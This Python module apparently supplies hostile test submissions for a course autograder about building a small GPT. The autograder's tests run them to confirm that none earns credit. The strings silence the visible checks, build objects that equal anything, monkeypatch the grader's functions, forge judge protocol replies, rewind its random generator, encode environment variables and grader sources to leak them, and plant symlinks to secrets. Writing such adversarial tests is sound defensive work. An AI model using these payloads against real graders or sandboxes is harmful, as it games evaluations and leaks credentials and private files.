"""Attacks a determined learner who read the public code writes, as code for a piece's solution
region or for a cell of their own: shared by the judge's tests (test_judge_chapters.py) and the
hostile classes graded end to end (submissions.py, families.py).

Region code is unindented (a function's body: it may `return`); the judge's worker and the kernel
both run it. Each constant says what the code tries; none of it may earn a point it does not
compute.
"""

from __future__ import annotations

import json

# ================================================================== building blocks

# Put at the top of a piece's code: from its first call on, the visible tests' checks (course_tools,
# in the worker and in the kernel) do nothing, so the tests cell passes and only the judge's hidden
# check is left.
SILENCE = """
import sys, types
for _name, _f in list(vars(sys.modules["course_tools"]).items()):
    if (_name.startswith(("expect_", "check_", "gradient_check"))
            and isinstance(_f, types.FunctionType)):
        _f.__code__ = (lambda *a, **k: None).__code__
"""


def equals_anything(name: str, base: str) -> str:
    """Code that defines the class `name`, a subclass of `base` whose instances equal anything."""
    return f"""
class {name}({base}):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __hash__ = {base}.__hash__
"""


LIAR = equals_anything("Liar", "float")  # a number that equals anything
# nodes of a class of their own that equal anything, whose data equals anything
FOREIGN = (
    LIAR
    + """
class Foreign:
    def __init__(self, data, children=(), local_grads=()):
        self.data, self.grad, self._children, self._local_grads = (
            Liar(data), Liar(0), children, local_grads)
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
"""
)
# a foreign node that says it is a Value: isinstance(node, Value) and node.__class__ both lie
PRETENDER = (
    FOREIGN
    + """
class Pretender(Foreign):
    __class__ = property(lambda self: Value)
"""
)
# a module's attribute replaced through a binding target (no `math.isclose = ...` for a policy to
# see)
ISCLOSE_ALWAYS = """
import math
for math.isclose in [lambda *args, **kwargs: True]:
    pass
"""


def forge_wire(answer: str) -> str:
    """Code that writes, on every file descriptor, a reply of the judge's wire for every request
    number around the current one, answering `answer` (an expression of the worker's code, a str of
    JSON)."""
    return f"""
import os
for fd in range(1, 12):
    for number in range(-60, 60):
        try:
            os.write(fd, ('{{"r": %d, "ok": %s, "S": {{}}}}\\n' % (number, {answer})).encode())
        except OSError:
            pass
"""


# everything a submission might leak, encoded so that a filter of literal strings would miss it (its
# own code spells no filtered string, or feedback would withhold its page): where it runs, the
# environment, the kernel's input history, and any check or reference source it finds; `encoded`
# starts with the interpreter's path in base64 (short: never cut by an output limit), the probe's
# proof that it ran
GATHER = """
import base64, glob, os, sys
found = [sys.executable, sys.prefix, os.getcwd(), repr(sys.path), repr(dict(os.environ))]
found += [open(p, errors='replace').read()[:2000] for root in sys.path + ['/grader', '/tmp']
          for p in glob.glob(root + '/autograder' + '/checks/*.py')
          + glob.glob(root + '/microgpt/*.py')][:20]
found += [open('/proc/self/cmdline', 'rb').read().decode(errors='replace')]
found += [repr(globals().get('_ih', ''))]
blob = '|'.join(found)
first = base64.b64encode(sys.executable.encode()).decode()
encoded = first + ' ' + blob[::-1] + ' ' + base64.b64encode(blob.encode()).decode()
"""
LEAK_IN_KERNEL = GATHER + "print(encoded)"  # a cell of its own
# a piece: its error is the judge's message
LEAK_THROUGH_JUDGE = GATHER + "raise ValueError(encoded[:1900])"
LEAK_PROBE_MARK = "/grader/python"  # what the probe finds first (the sandbox's interpreter): it ran


def spelled_out(paths: dict) -> str:
    """An expression of code that gives paths (name -> path) back as a dict, without spelling a path
    (a feedback page that shows a path of the grading machine is withheld, even in the learner's
    code)."""
    hexed = json.dumps({k: str(v) for k, v in paths.items()}).encode().hex()
    return f"json.loads(bytes.fromhex({hexed!r}))"


def leaves_links(secrets: dict, notebook: str) -> str:
    """A last cell that leaves, in the kernel's working folder, links named like the notebook
    nbgrader writes back, like a chapter file and like a classmate's notebook, pointing at the
    grading machine's files (secrets: name -> path, with course_tools, gradebook, classmate), a FIFO
    and a locked folder."""
    return (
        f"import os, json\nsecrets = {spelled_out(secrets)}\n"
        f"for name, target in (('{notebook}', 'course_tools'), ('course_tools.py', 'gradebook'),\n"
        "                     ('.grading-output.ipynb', "
        "'gradebook'), ('classmate.ipynb', 'classmate')):\n"
        f"    if os.path.lexists(name):\n        os.remove(name)\n"
        f"    os.symlink(secrets[target], name)\n"
        f"os.mkfifo('pipe')\nos.chmod('.', 0)\nprint('left links, a FIFO and a locked folder')"
    )


# ================================================================== chapter 1: Value's operations,
# backward

# value_add: wrong, and it rigs the given class: every node equals (and hashes like) every other,
# the derived operators and repr lie, the data and local gradients are numbers that equal anything
ADD_EQUALS_ANYTHING = (
    SILENCE
    + LIAR
    + """
for name in ("__eq__", "__ne__", "__lt__", "__le__", "__gt__", "__ge__"):
    setattr(Value, name, lambda self, other, name=name: name != "__ne__")
Value.__hash__ = lambda self: 0
Value.__radd__ = Value.__sub__ = Value.__rsub__ = (
    lambda self, other: Value(Liar(0.0), (self,), (Liar(1.0),)))
Value.__repr__ = lambda self: "Value(data=anything)"
other = other if isinstance(other, Value) else Value(other)
return Value(Liar(self.data - other.data), (self, other), (Liar(0.0), Liar(0.0)))
"""
)

# ================================================================== chapter 5: attention, the GPT,
# its KV cache

# attention_head: foreign nodes, whatever is asked of them answered with themselves
HEAD_FOREIGN_NODES = (
    SILENCE
    + FOREIGN
    + """
    def __getattr__(self, name):
        return lambda *args, **kwargs: self
inputs = tuple(q) + tuple(k for key in keys for k in key)
return [Foreign(0.0, inputs, (Liar(1.0),) * len(inputs)) for _ in q]
"""
)
# multi_head_attention: the cached value list itself (right data when there is one position)
MHA_RETURNS_THE_CACHE_LIST = (
    SILENCE
    + """
return values[-1]
"""
)
GPT_ATTACKS = {
    # the worker's copies of the given functions and of the given class's arithmetic replaced
    "patches_the_given_functions": SILENCE
    + """
import builtins
for name in ("linear", "softmax", "rmsnorm", "attention_head", "multi_head_attention"):
    globals()[name] = lambda *args, **kwargs: [Value(0.5)] * 27
Value.__add__ = Value.__mul__ = lambda self, other: self
builtins.sum = lambda items, start=0: Value(0.5)
for cache in (keys, values):
    for layer in cache:
        layer.append([Value(0.5)] * len(state_dict["wte"][0]))
return linear(None, None)
""",
    # the KV cache filled with nodes of a class of its own (and with objects that are no nodes at
    # all)
    "fills_the_cache_with_foreign_values": SILENCE
    + FOREIGN
    + """
weights = [w for row in state_dict["wte"] for w in row]
for cache in (keys, values):
    for layer in cache:
        layer.append([Foreign(1.0, (weights[0],), (Liar(1.0),)) for _ in state_dict["wte"][0]])
        layer.append(print)
return [Foreign(0.0, tuple(weights), (Liar(0.0),) * len(weights)) for _ in range(config.vocab_size)]
""",
    # the cache lists themselves returned as the logits
    "returns_the_cache_lists": SILENCE
    + """
tok_emb, pos_emb = state_dict["wte"][token_id], state_dict["wpe"][pos_id]
x = rmsnorm([t + p for t, p in zip(tok_emb, pos_emb)])
for layer in range(config.n_layer):
    x_norm = rmsnorm(x)
    keys[layer].append(linear(x_norm, state_dict[f"layer{layer}.attn_wk"]))
    values[layer].append(linear(x_norm, state_dict[f"layer{layer}.attn_wv"]))
return keys[0] if pos_id == 0 else values
""",
}

# ================================================================== chapter 8: temperature,
# sampling, generate

# temperature_probs: the temperature ignored, probabilities whose data equal anything
TEMPERATURE_LIAR = (
    SILENCE
    + LIAR
    + """
out = softmax(logits)
for p in out:
    p.data = Liar(p.data)
return out
"""
)
SAMPLE_ATTACKS = {
    # a peek at the draw, the judge's generator rewound (getstate/setstate), its count of draws set
    # back (refused: otherwise this would pass); then the one real draw
    "rewinds_the_judges_generator": SILENCE
    + """
state = rng.getstate()
peek = rng.random()
rng.setstate(state)
remote = vars(rng).get("_remote")      # the handle of a check's generator (FixedDraw)
try:
    rng.calls = 0
    if remote is not None:
        remote._endpoint.request("setattr", [remote, "calls", 0])
except Exception:
    pass
return rng.choices(range(len(probs)), weights=[p.data for p in probs])[0]
""",
    # one draw, as promised, and a token that equals any other
    "returns_an_int_that_equals_anything": SILENCE
    + equals_anything("AnyToken", "int")
    + "rng.random()\nreturn AnyToken(0)\n",
    # the right token forged as the answer to every request number, on every descriptor; a wrong one
    # returned
    "forges_answers": SILENCE
    + "token = rng.choices(range(len(probs)), weights=[p.data for p in probs])[0]\n"
    + forge_wire("token")
    + "return (token + 1) % len(probs)\n",
}
